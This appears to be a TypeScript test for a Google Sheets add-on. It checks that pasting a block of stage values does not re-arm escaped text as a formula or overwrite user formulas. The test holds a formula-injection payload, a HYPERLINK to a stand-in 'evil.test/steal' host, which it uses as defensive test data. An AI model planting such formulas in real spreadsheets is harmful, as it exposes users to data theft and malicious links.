// One writer for every row write (issue 20): the edit trigger writes a pasted block of stages
// with the same changed-cells writer as the sidebar's saves, in its "never block" mode. A block
// of rows whose changes differ (one row moved on to another stage, the next put back to the stage
// it had, typed as its key) must not write the second row's Stage since / Version / Updated
// columns back from the values read: that would arm its `'=HYPERLINK(…)` text as a formula and
// replace a user's formula with its value (the old writeChangedCells wrote the union of the rows'
// changed columns over every row of the block).
import { demoWorkspace, records, Workspace } from './harness';

const OWNER = 'owner@studio.test';
const LINK = '=HYPERLINK("http://evil.test/steal","x")';

function cell(ws: Workspace, row: number, column: number): { value: unknown; formula: string } {
  return ws.execute(() => {
    const range = ws.globals.SpreadsheetApp.getActive().getSheetByName('Deals').getRange(row, column);
    return { value: range.getValue(), formula: range.getFormula() };
  }, { user: OWNER });
}

describe('the edit trigger writes a pasted block of stages cell by changed cell', () => {
  test("a neighbour's '=… text stays text and a user's formula stays a formula", () => {
    const { ws, addon } = demoWorkspace(80, OWNER);
    const values = ws.readSheet('Deals').values as unknown[][];
    const header = values[0] as string[];
    const col = (name: string) => header.indexOf(name) + 1;
    // Two adjacent deals in New: the first is moved on to Frozen; the second had an unknown stage
    // typed into it (a problem that remembers New) and is put back to New, typed as its key.
    let top = -1;
    for (let r = 1; r + 1 < values.length && top < 0; r++) {
      if (values[r][col('Stage') - 1] === 'New' && values[r + 1][col('Stage') - 1] === 'New') top = r + 1;
    }
    expect(top).toBeGreaterThan(1);
    const second = top + 1;
    ws.editCell('Deals', second, col('Stage'), 'Somewhere');
    ws.execute(() => {
      const sheet = ws.globals.SpreadsheetApp.getActive().getSheetByName('Deals');
      sheet.getRange(second, col('Updated by')).setValue(`'${LINK}`);
      sheet.getRange(second, col('Stage since')).setFormula('=DATE(2026,11,1)');
      sheet.getRange(second, col('Version')).setFormula('=2+1');
    }, { user: OWNER });
    expect(cell(ws, second, col('Updated by'))).toEqual({ value: LINK, formula: '' });

    // The paste, then the installed edit trigger for the pasted range (the emulator types one cell at a time).
    ws.execute(() => {
      const sheet = ws.globals.SpreadsheetApp.getActive().getSheetByName('Deals');
      const range = sheet.getRange(top, col('Stage'), 2, 1);
      range.setValues([['Frozen'], ['new']]);
      addon.onEditInstalled({ authMode: 'FULL', range, source: ws.globals.SpreadsheetApp.getActive(), user: { getEmail: () => OWNER } });
    }, { user: OWNER });

    const rows = records(ws, 'Deals');
    expect(rows[top - 2].Stage).toBe('Frozen');
    expect(rows[second - 2].Stage).toBe('New'); // the key shown as its name
    expect(cell(ws, second, col('Updated by'))).toEqual({ value: LINK, formula: '' });
    expect(cell(ws, second, col('Stage since')).formula).toBe('=DATE(2026,11,1)');
    expect(cell(ws, second, col('Version')).formula).toBe('=2+1');
    // The moved row got its stamp.
    expect(cell(ws, top, col('Updated by')).value).toBe(OWNER);
  });
});
